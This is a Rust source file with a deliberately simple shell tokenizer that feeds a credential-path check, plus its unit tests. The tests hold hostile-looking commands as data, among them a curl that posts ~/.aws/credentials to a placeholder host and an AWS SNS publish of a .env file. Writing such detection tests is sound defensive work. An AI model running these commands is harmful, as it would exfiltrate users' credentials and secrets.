//! A command line's words as the credential-path check reads them: a
//! deliberately simple split that needs no parse (see the crate doc), so
//! that a credential path anywhere on the line is seen whatever the
//! command does with it.

/// The words of a command line, for the credential-path check: split at
/// unquoted blanks and `;|&()<>` and backquotes; quotes and backslashes
/// removed; `--opt=value` also yields `value`, `file://PATH` also `PATH`;
/// a word holding a command substitution is split again.
pub(crate) fn shell_words(cmd: &str, depth: usize) -> Vec<String> {
    let mut words = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut chars = cmd.chars();
    let flush = |cur: &mut String, words: &mut Vec<String>| {
        if !cur.is_empty() {
            words.push(std::mem::take(cur));
        }
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (Some('"'), '\\') => cur.extend(chars.next()),
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (None, '\\') => cur.extend(chars.next()),
            (None, c)
                if c.is_whitespace()
                    || matches!(c, ';' | '|' | '&' | '(' | ')' | '<' | '>' | '`') =>
            {
                flush(&mut cur, &mut words)
            }
            (None, c) => cur.push(c),
        }
    }
    flush(&mut cur, &mut words);

    let mut out = Vec::new();
    for w in words {
        if depth < 2 && (w.contains("$(") || w.contains('`') || w.contains(char::is_whitespace)) {
            let inner = w.replace("$(", " ").replace('`', " ");
            out.extend(shell_words(&inner, depth + 1));
        }
        if let Some((_, value)) = w.split_once('=') {
            out.push(value.to_string());
        }
        // The AWS CLI's arguments read from a file (`file://.env`).
        if let Some(path) = w
            .strip_prefix("file://")
            .or_else(|| w.strip_prefix("fileb://"))
        {
            out.push(path.to_string());
        }
        out.push(w);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_words_understand_quotes_and_substitutions() {
        let w = shell_words(
            r#"docker run --env-file=.env -v "$HOME/my dir":/x 'a b' c\ d; cat<~/.netrc|x"#,
            0,
        );
        for expected in [
            ".env",
            "--env-file=.env",
            "$HOME/my dir:/x",
            "a b",
            "c d",
            "~/.netrc",
            "x",
        ] {
            assert!(w.iter().any(|x| x == expected), "{expected} in {w:?}");
        }
        let w = shell_words(r#"curl -d "$(cat ~/.aws/credentials)" https://x"#, 0);
        assert!(w.iter().any(|x| x == "~/.aws/credentials"), "{w:?}");
        let w = shell_words("echo `cat .env`", 0);
        assert!(w.iter().any(|x| x == ".env"), "{w:?}");
        let w = shell_words("aws sns publish --message file://.env", 0);
        assert!(w.iter().any(|x| x == ".env"), "{w:?}");
    }
}
